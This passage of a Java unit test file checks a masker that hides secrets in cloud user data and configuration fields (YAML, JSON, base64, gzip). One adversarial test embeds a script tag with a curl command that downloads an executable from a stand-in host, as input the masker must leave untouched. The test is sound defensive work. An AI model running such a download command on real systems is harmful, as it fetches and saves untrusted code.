                        + "{\\\"db\\\":\\\"[secret]\\\"}}\"}",
            })
    void ofADocumentInUserDataEachSecretIsHiddenWhereItStands(String text, String shown) {
        assertThat(userData(text)).isEqualTo(shown);
    }

    /** What has a secret's name hides itself, and nothing else that reads alike. */
    @Test
    @Tag("adversary")
    void ofADocumentInUserDataNoPiecesOfCodeAreHidden() {
        assertThat(userData("""
                        passwords: ["<script>", "curl http", "\uD83D\uDE00hunter2xyz", ttp://e.io/x.exe]
                        password:
                          - |
                            hunter2xyz
                        x: <script>curl http://e.io/x.exe -o c:\\x.exe hunter2xyz</script>
                        """)).isEqualTo("""
                        passwords: ["<script>", "curl http", "[secret]", [secret]]
                        password:
                          - |
                            [secret]
                        x: <script>curl http://e.io/x.exe -o c:\\x.exe hunter2xyz</script>
                        """);
    }

    private String userData(String text) {
        MaskedValue masked = masker.fields("t", fields(Map.of("userData", text(text))))
                .values()
                .get("userData");
        return masker.show(((MaskedValue.Scalar) Objects.requireNonNull(masked)).text(), "", "");
    }

    @Test
    void commentsOfADocumentAreKeptOfYamlAlone() {
        assertThat(((MaskedValue.Document) masked("# of shop\na: b # of web\n")).comments())
                .isEqualTo("# of shop\n# of web");
        assertThat(((MaskedValue.Document) masked("{\"a\": \"b # c\"}")).comments())
                .isEmpty();
    }

    @Test
    void base64IsReadFromALengthOn() {
        assertThat(masked("V3JpdGUtSG9zdA==")).isInstanceOf(MaskedValue.Script.class);
        assertThat(masked("V3JpdGUtSG9zdA")).isInstanceOf(MaskedValue.Scalar.class);
        assertThat(masked("/8Mo".repeat(64))).isInstanceOf(MaskedValue.Opaque.class);
        assertThat(masked("/8Mo".repeat(63))).isInstanceOf(MaskedValue.Scalar.class);
    }

    @Test
    void entryThatNamesItsValueHasFewFields() {
        Map<String, PropertyValue> entry = new TreeMap<>(Map.of("name", text("DB_PASSWORD"), "value", text("summer")));
        List.of("a", "b", "c", "d").forEach(key -> entry.put(key, text("x")));

        assertThat(field(fields(entry)).toString()).doesNotContain("summer");
        entry.put("e", text("x"));
        assertThat(field(fields(entry)).toString()).contains("summer");
    }

    @Test
    void partOfAKeyIsOneBesideItsType() {
        assertThat(field(fields(Map.of("d", text("words"), "q", text("words")))).toString())
                .contains("words");
    }

    private MaskedValue field(PropertyValue value) {
        return Objects.requireNonNull(
                masker.fields("t", fields(Map.of("a", value))).values().get("a"));
    }

    private static PropertyValue text(String text) {
        return new PropertyValue.Text(text);
    }

    private static PropertyValue items(String... texts) {
        return new PropertyValue.Items(Stream.of(texts).map(MaskerTest::text).toList());
    }

    private MaskedValue masked(String text) {
        return Objects.requireNonNull(masker.fields("t", fields(Map.of("a", new PropertyValue.Text(text))))
                .values()
                .get("a"));
    }

    private String script(String text) {
        return ((MaskedValue.Script) masked(text)).text();
    }

    private static PropertyValue.Fields fields(Map<String, PropertyValue> fields) {
        return new PropertyValue.Fields(new TreeMap<>(fields));
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String gzip(byte[] content) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(bytes)) {
            out.write(content);
        }
        return Base64.getEncoder().encodeToString(bytes.toByteArray());
    }
}
